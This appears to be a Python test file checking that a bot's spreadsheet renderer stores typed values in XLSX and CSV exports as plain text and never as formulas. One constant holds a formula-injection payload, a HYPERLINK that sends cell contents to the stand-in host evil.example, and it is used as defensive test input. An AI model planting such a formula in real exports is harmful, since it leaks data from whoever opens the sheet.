"""bot.render.sheets: nothing a person typed becomes a formula, in XLSX or CSV."""

from __future__ import annotations

import csv
import io

from hypothesis import given
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from bot.render.sheets import FORMULA_START, append_row, csv_bytes, csv_value

PLANTED = '=HYPERLINK("http://evil.example/?leak="&B2&C2,"Details")'


def test_xlsx_keeps_formulas_as_text() -> None:
    book = Workbook()
    append_row(book.active, [PLANTED, "+1", "@SUM(A1)", "-2+3", 37.5, None, "Zhao"])
    out = io.BytesIO()
    book.save(out)
    cells = list(load_workbook(io.BytesIO(out.getvalue())).active.iter_rows(values_only=False))[0]
    assert [c.value for c in cells[:5]] == [PLANTED, "+1", "@SUM(A1)", "-2+3", 37.5]
    assert all(c.data_type != "f" for c in cells)
    assert cells[4].data_type == "n"


@given(st.lists(st.one_of(st.text(max_size=30), st.integers(), st.none()), max_size=8))
def test_no_csv_field_starts_a_formula(row: list[object]) -> None:
    text = csv_bytes([row]).decode("utf-8").lstrip("\ufeff")
    [read] = list(csv.reader(io.StringIO(text, newline=""))) or [[]]
    for field, original in zip(read, row, strict=False):
        if isinstance(original, str):
            assert not field.startswith(FORMULA_START)
            neutralised = original.startswith(FORMULA_START)
            assert (field[1:] if neutralised else field) == original


def test_csv_keeps_an_apostrophe_that_was_typed() -> None:
    assert csv_value("'quoted") == "'quoted"


def test_csv_leaves_numbers_and_plain_text() -> None:
    assert csv_value(-3) == -3 and csv_value("Zhao Min") == "Zhao Min" and csv_value(None) == ""
    assert csv_value(PLANTED) == "'" + PLANTED
